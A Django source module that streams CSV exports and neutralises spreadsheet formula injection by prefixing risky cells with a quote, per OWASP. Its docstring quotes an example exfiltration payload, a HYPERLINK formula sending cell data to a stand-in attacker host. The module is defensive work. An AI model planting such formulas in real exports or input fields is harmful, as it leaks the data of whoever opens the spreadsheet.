"""The one way InMail Studio writes CSV: every cell safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google
Sheets, and tab or carriage return can push what follows into one; a stakeholder's name or a
comment typed through a share link would then run in the admin's spreadsheet
(`=HYPERLINK("https://evil.example/?"&A1, "Open")`). OWASP's advice, followed here: prefix such
a cell with a single quote, which spreadsheets show as text and do not evaluate
(https://owasp.org/www-community/attacks/CSV_Injection). Every export goes through
`csv_response`; `tests/security/test_csv_exports.py` checks that no other module writes CSV.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell's text, with a leading quote when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    # Leading spaces are trimmed by some importers, so look past them too.
    if text.startswith(FORMULA_PREFIXES) or text.lstrip(" ").startswith(FORMULA_PREFIXES[:4]):
        return "'" + text
    return text


class _Echo:
    """A file-like object that hands back what the csv writer writes, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """Each row as one line of CSV, every cell neutralised."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_response(rows: Iterable[Sequence[object]], *, filename: str) -> StreamingHttpResponse:
    """A CSV download of `rows` (header first), streamed so a large export holds one row at a time."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
